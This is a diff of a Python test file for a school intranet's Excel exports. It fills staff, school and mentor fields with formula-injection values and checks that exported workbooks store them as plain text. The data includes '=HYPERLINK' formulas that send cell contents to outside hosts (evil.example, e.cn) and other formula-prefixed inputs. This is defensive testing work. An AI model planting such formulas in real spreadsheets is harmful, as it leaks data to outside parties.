@@ -31,6 +31,7 @@ from tests.conftest import as_user, csrf_token, htmx, login_as
 
 # What a colleague could type into any text field, hoping a manager opens the export in Excel.
 LINK = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
+SHORT_LINK = '=HYPERLINK("http://e.cn/?"&A1,"点我")'  # fits a 40-character name
 HOSTILE = [LINK, "+1", "-1+2", "@SUM(A1)", "\t=1+1", "\r=1+1"]
 CANARY = "CANARY-8f3a"
 
@@ -43,11 +44,10 @@ def hostile_school(app, make_staff):
     """A semester whose every text field that reaches a workbook holds a formula-like value."""
     with app.app_context():
         today = school_today()
-    evil = iter(HOSTILE * 10)
     leader = make_staff(role="leader", username="leader1", name="周文华")
     author = make_staff(
         username="=1+1",
-        name=LINK,
+        name=SHORT_LINK,
         title="+1",
         subject="-1+2",
         grade_group="@SUM(A1)",
@@ -61,8 +61,10 @@ def hostile_school(app, make_staff):
             end=today + timedelta(days=60),
             is_current=True,
         )
-        school = PartnerSchool(name=next(evil))
-        mentor = ExternalMentor(name=LINK, organisation="+1", speciality="-1+2", contact="@SUM(A1)")
+        school = PartnerSchool(name=SHORT_LINK)
+        mentor = ExternalMentor(
+            name=SHORT_LINK, organisation="+1", speciality="-1+2", contact="@SUM(A1)"
+        )
         db.session.add_all([semester, school, mentor])
         db.session.flush()
         activity = Activity(
@@ -160,7 +162,9 @@ def test_M_no_exported_workbook_holds_a_formula_and_the_text_survives(app, hosti
                 for cell in row:
                     assert cell.data_type != "f", (name, sheet.title, cell.coordinate)
                     values.append(cell.value)
-        assert LINK in values, name  # shown exactly as typed, not emptied or escaped
+        assert LINK in values or SHORT_LINK in values, (
+            name
+        )  # shown exactly as typed, not emptied or escaped
     archive = load_workbook(io.BytesIO(books["本学期资料附录.xlsx"]))
     archive_values = {c.value for s in archive.worksheets for r in s.iter_rows() for c in r}
     # XML reads a carriage return back as a line feed; the campus is not in the archive.
@@ -364,6 +368,7 @@ def test_L_stored_files_are_dated_midnight_of_the_school_day(app, named_photo):
         assert os.stat(path).st_mtime == midnight(app, named_photo["day"])
 
 
+@pytest.mark.sqlite_only  # flask backup copies SQLite; PostgreSQL is backed up with pg_dump
 def test_L_a_backup_keeps_the_midnight_of_every_upload(app, named_photo, tmp_path):
     from intranet.backup import make_backup
 
